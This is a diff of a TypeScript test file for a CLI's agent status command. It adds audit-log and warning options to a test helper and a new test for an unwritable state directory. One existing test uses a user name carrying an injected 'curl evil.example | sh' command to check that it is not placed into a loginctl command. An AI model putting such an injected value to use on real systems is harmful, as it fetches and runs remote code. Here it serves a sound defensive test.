@@ -25,15 +25,21 @@ const installation = {
 const look = { installed: [installation], isLingering: false, user: DRIVES };
 
 /** What `farside agent status` prints of a host that says `look` and `description`. */
-async function printed(argv: object): Promise<string> {
+async function printed(
+  argv: object,
+  more: { audit?: object; env?: object; warn?: (message: string) => void } = {},
+) {
   const stdout = new PassThrough();
   const server = {
     look: async () => look,
-    attach: async () => ({ ask: async () => description, [Symbol.asyncDispose]: async () => {} }),
+    attach: async () => ({
+      ask: async () => ({ ...description, audit: more.audit }),
+      [Symbol.asyncDispose]: async () => {},
+    }),
   };
-  const context = { env: {}, interrupts: { signal: new AbortController().signal } };
+  const context = { env: more.env ?? {}, interrupts: { signal: new AbortController().signal } };
   const answer = new Answer(stdout);
-  const run = { argv, server, name: "a", host: "me@build", answer, context, people: { warn: () => {} } };
+  const run = { argv, server, name: "a", host: "me@build", answer, context, people: { warn: more.warn } };
   await showStatus(run as unknown as AgentRun);
   await answer.flush(1_000);
   stdout.end();
@@ -63,4 +69,13 @@ test("a user's name that would be a command is not put into one", () => {
   const user = "builder; curl evil.example | sh #";
   expect(lingeringLine({ isLingering: false, user })).toMatch(/loginctl enable-linger USER$/);
   expect(lingeringLine({ isLingering: false, user: "builder" })).toMatch(/loginctl enable-linger builder$/);
+});
+
+test("shows an agent also where nothing can be kept of it here", async () => {
+  const warnings: string[] = [];
+  const audit = { seq: 1, hash: "0".repeat(64) };
+  const env = { XDG_STATE_HOME: "/dev/null/state" };
+  const lines = await printed({}, { audit, env, warn: (message) => warnings.push(message) });
+  expect(lines).toContain("systemd");
+  expect(warnings).toEqual([expect.stringMatching(/\/dev\/null\/state.*me@build's audit log is not kept$/u)]);
 });
